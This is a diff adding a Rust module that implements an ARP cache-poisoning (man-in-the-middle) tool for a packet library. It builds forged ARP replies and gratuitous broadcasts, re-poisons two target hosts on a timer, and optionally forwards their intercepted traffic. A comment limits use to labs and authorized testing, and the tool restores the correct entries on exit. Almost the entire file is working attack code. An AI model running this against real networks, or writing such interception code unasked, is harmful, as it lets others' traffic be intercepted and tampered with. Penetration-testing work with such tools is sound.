@@ -0,0 +1,324 @@
+use crate::error::PaError;
+use crate::hdr::{eth_type, link_local, ArpHdr, EthHdr};
+use crate::io::PacketIo;
+use crate::proto::Proto;
+use crate::Pdu;
+use std::net::IpAddr;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::Arc;
+use std::thread::sleep;
+use std::time::{Duration, Instant};
+
+/// Set by the SIGINT handler installed by `ArpSpoofer::run`
+static CTRL_C: AtomicBool = AtomicBool::new(false);
+
+#[cfg(unix)]
+extern "C" fn on_ctrl_c(_: libc::c_int) {
+    CTRL_C.store(true, Ordering::SeqCst);
+}
+
+/// SIGINT disposition replaced by `catch_ctrl_c`
+#[cfg(unix)]
+type PrevHandler = libc::sigaction;
+#[cfg(not(unix))]
+type PrevHandler = ();
+
+/// Installs SIGINT handler setting `CTRL_C`, returns the one it replaced
+#[cfg(unix)]
+fn catch_ctrl_c() -> PrevHandler {
+    unsafe {
+        let mut action: libc::sigaction = std::mem::zeroed();
+        action.sa_sigaction = on_ctrl_c as extern "C" fn(libc::c_int) as libc::sighandler_t;
+        libc::sigemptyset(&mut action.sa_mask);
+        let mut prev: libc::sigaction = std::mem::zeroed();
+        libc::sigaction(libc::SIGINT, &action, &mut prev);
+        prev
+    }
+}
+
+#[cfg(not(unix))]
+fn catch_ctrl_c() -> PrevHandler {}
+
+/// Puts back SIGINT disposition returned by `catch_ctrl_c`
+#[cfg(unix)]
+fn restore_ctrl_c(prev: PrevHandler) {
+    unsafe {
+        libc::sigaction(libc::SIGINT, &prev, std::ptr::null_mut());
+    }
+}
+
+#[cfg(not(unix))]
+fn restore_ctrl_c(_prev: PrevHandler) {}
+
+/// A host on the local network
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct Host {
+    pub ip: [u8; 4],
+    pub mac: [u8; 6],
+}
+
+impl Host {
+    pub fn new(ip: [u8; 4], mac: [u8; 6]) -> Self {
+        Self { ip, mac }
+    }
+}
+
+/// Builds broadcast gratuitous ARP reply announcing `ip` is at `mac`
+pub fn gratuitous_arp(mac: [u8; 6], ip: [u8; 4]) -> Result<Pdu, PaError> {
+    let mut arp = ArpHdr::new();
+    arp.set_arp_reply();
+    arp.src_hw_addr = mac;
+    arp.src_proto_addr = ip;
+    arp.dst_hw_addr = [0xff; 6];
+    arp.dst_proto_addr = ip;
+    let mut pdu = Pdu::new()
+        .header(EthHdr::from_raw(mac, [0xff; 6], eth_type::ARP as u16))
+        .header(arp);
+    pdu.build()?;
+    Ok(pdu)
+}
+
+/// Builds ARP reply sent to `to` claiming `ip` is at `mac`
+fn arp_reply(mac: [u8; 6], ip: [u8; 4], to: &Host) -> Result<Pdu, PaError> {
+    let mut arp = ArpHdr::new();
+    arp.set_arp_reply();
+    arp.src_hw_addr = mac;
+    arp.src_proto_addr = ip;
+    arp.dst_hw_addr = to.mac;
+    arp.dst_proto_addr = to.ip;
+    let mut pdu = Pdu::new()
+        .header(EthHdr::from_raw(mac, to.mac, eth_type::ARP as u16))
+        .header(arp);
+    pdu.build()?;
+    Ok(pdu)
+}
+
+/// Options of `ArpSpoofer`
+#[derive(Debug, Clone)]
+pub struct SpoofOpts {
+    /// Time between two rounds of poisoning
+    pub interval: Duration,
+    /// Forward IP traffic intercepted between the two hosts
+    pub forward: bool,
+    /// Also broadcast gratuitous ARP announcing both hosts at `our_mac` when
+    /// poisoning starts, which reaches every host of the segment
+    pub gratuitous: bool,
+    /// Number of times correct entries are sent when stopping
+    pub restore_count: usize,
+    /// Stop and restore on Ctrl-C instead of exiting
+    pub catch_ctrl_c: bool,
+}
+
+impl SpoofOpts {
+    pub fn new() -> Self {
+        Self {
+            interval: Duration::from_secs(2),
+            forward: false,
+            gratuitous: false,
+            restore_count: 3,
+            catch_ctrl_c: false,
+        }
+    }
+}
+
+impl Default for SpoofOpts {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+/// Summary returned after `ArpSpoofer::run`
+#[derive(Debug, Clone, Default)]
+pub struct SpoofStats {
+    pub poisoned: usize,
+    pub forwarded: usize,
+    pub restored: usize,
+}
+
+/// Places `our_mac` between hosts `a` and `b` by poisoning their ARP caches
+///
+/// Meant for testing in labs and networks you are authorized to test. Both
+/// hosts are told the other one is at `our_mac`. Correct entries are sent
+/// back to both when `run` stops.
+pub struct ArpSpoofer {
+    pub our_mac: [u8; 6],
+    /// Addresses of this host, traffic to them is never forwarded. The
+    /// IPv6 link-local address of `our_mac` is always included.
+    pub our_ips: Vec<IpAddr>,
+    pub a: Host,
+    pub b: Host,
+    pub opts: SpoofOpts,
+    stop: Arc<AtomicBool>,
+}
+
+impl ArpSpoofer {
+    pub fn new(our_mac: [u8; 6], a: Host, b: Host) -> Self {
+        Self {
+            our_mac,
+            our_ips: Vec::new(),
+            a,
+            b,
+            opts: SpoofOpts::new(),
+            stop: Arc::new(AtomicBool::new(false)),
+        }
+    }
+
+    /// Returns flag stopping `run` when set, usable from another thread
+    pub fn stop_handle(&self) -> Arc<AtomicBool> {
+        self.stop.clone()
+    }
+
+    /// Returns replies telling each host the other one is at `our_mac`
+    pub fn poison_packets(&self) -> Result<[Pdu; 2], PaError> {
+        Ok([
+            arp_reply(self.our_mac, self.b.ip, &self.a)?,
+            arp_reply(self.our_mac, self.a.ip, &self.b)?,
+        ])
+    }
+
+    /// Returns replies giving each host the real MAC of the other one
+    pub fn restore_packets(&self) -> Result<[Pdu; 2], PaError> {
+        Ok([
+            arp_reply(self.b.mac, self.b.ip, &self.a)?,
+            arp_reply(self.a.mac, self.a.ip, &self.b)?,
+        ])
+    }
+
+    /// Returns gratuitous ARP announcing both hosts at `our_mac`
+    pub fn gratuitous_packets(&self) -> Result<[Pdu; 2], PaError> {
+        Ok([
+            gratuitous_arp(self.our_mac, self.b.ip)?,
+            gratuitous_arp(self.our_mac, self.a.ip)?,
+        ])
+    }
+
+    /// Returns gratuitous ARP announcing both hosts at their real MAC
+    pub fn gratuitous_restore_packets(&self) -> Result<[Pdu; 2], PaError> {
+        Ok([
+            gratuitous_arp(self.b.mac, self.b.ip)?,
+            gratuitous_arp(self.a.mac, self.a.ip)?,
+        ])
+    }
+
+    fn is_ours(&self, ip: IpAddr) -> bool {
+        ip == IpAddr::from(link_local(self.our_mac)) || self.our_ips.contains(&ip)
+    }
+
+    fn stopped(&self) -> bool {
+        self.stop.load(Ordering::SeqCst)
+            || (self.opts.catch_ctrl_c && CTRL_C.load(Ordering::SeqCst))
+    }
+
+    /// Returns `frame` addressed to the other host if it was sent to us by one
+    /// of them, and not to one of `our_ips`
+    fn forward_frame(&self, frame: &[u8]) -> Option<Vec<u8>> {
+        let pdu = Pdu::parse(frame);
+        let eth = match pdu.headers.get(&2) {
+            Some(Proto::Eth(eth)) if eth.dst_hw_addr == self.our_mac => eth,
+            _ => return None,
+        };
+        let dst = match pdu.headers.get(&3) {
+            Some(Proto::IPv4(ipv4)) => IpAddr::from(ipv4.dst_ip_addr),
+            Some(Proto::IPv6(ipv6)) => IpAddr::from(ipv6.dst_ip_addr),
+            _ => return None,
+        };
+        if self.is_ours(dst) {
+            return None;
+        }
+        let to = if eth.src_hw_addr == self.a.mac {
+            self.b.mac
+        } else if eth.src_hw_addr == self.b.mac {
+            self.a.mac
+        } else {
+            return None;
+        };
+        let mut frame = frame.to_vec();
+        frame[0..6].copy_from_slice(&to);
+        frame[6..12].copy_from_slice(&self.our_mac);
+        Some(frame)
+    }
+
+    fn poison_loop<T: PacketIo>(&self, io: &mut T, stats: &mut SpoofStats) -> Result<(), PaError> {
+        let poison = self.poison_packets()?;
+        if self.opts.gratuitous {
+            for pdu in self.gratuitous_packets()?.iter() {
+                pdu.send_on(io)?;
+            }
+        }
+        while !self.stopped() {
+            for pdu in poison.iter() {
+                pdu.send_on(io)?;
+            }
+            stats.poisoned += 1;
+
+            let next_round = Instant::now() + self.opts.interval;
+            while let Some(left) = next_round.checked_duration_since(Instant::now()) {
+                if self.stopped() {
+                    break;
+                }
+                // Wake up regularly to notice a stop request
+                let left = left.min(Duration::from_millis(100));
+                if !self.opts.forward {
+                    sleep(left);
+                    continue;
+                }
+                let frame = match io.recv_timeout(left) {
+                    Ok(frame) => frame,
+                    // SIGINT stopping us may interrupt the wait of some `PacketIo`
+                    Err(_) if self.stopped() => break,
+                    Err(err) => return Err(err),
+                };
+                if let Some(frame) = frame {
+                    if let Some(frame) = self.forward_frame(&frame) {
+                        io.send(&frame)?;
+                        stats.forwarded += 1;
+                    }
+                }
+            }
+        }
+        Ok(())
+    }
+
+    fn restore<T: PacketIo>(&self, io: &mut T, stats: &mut SpoofStats) -> Result<(), PaError> {
+        let restore = self.restore_packets()?;
+        let announce = if self.opts.gratuitous {
+            Some(self.gratuitous_restore_packets()?)
+        } else {
+            None
+        };
+        for i in 0..self.opts.restore_count {
+            if i > 0 {
+                sleep(Duration::from_millis(100));
+            }
+            for pdu in restore.iter().chain(announce.iter().flatten()) {
+                pdu.send_on(io)?;
+            }
+            stats.restored += 1;
+        }
+        Ok(())
+    }
+
+    /// Poisons both hosts every `opts.interval` until stopped
+    ///
+    /// Correct ARP entries are restored before returning, also when sending
+    /// failed midway. A SIGINT handler installed for `opts.catch_ctrl_c` is
+    /// replaced by the previous one again.
+    pub fn run<T: PacketIo>(&self, io: &mut T) -> Result<SpoofStats, PaError> {
+        let prev_handler = self.opts.catch_ctrl_c.then(|| {
+            CTRL_C.store(false, Ordering::SeqCst);
+            catch_ctrl_c()
+        });
+
+        let mut stats = SpoofStats::default();
+        let result = self.poison_loop(io, &mut stats);
+
+        let restored = self.restore(io, &mut stats);
+
+        if let Some(prev) = prev_handler {
+            restore_ctrl_c(prev);
+        }
+        result?;
+        restored?;
+        Ok(stats)
+    }
+}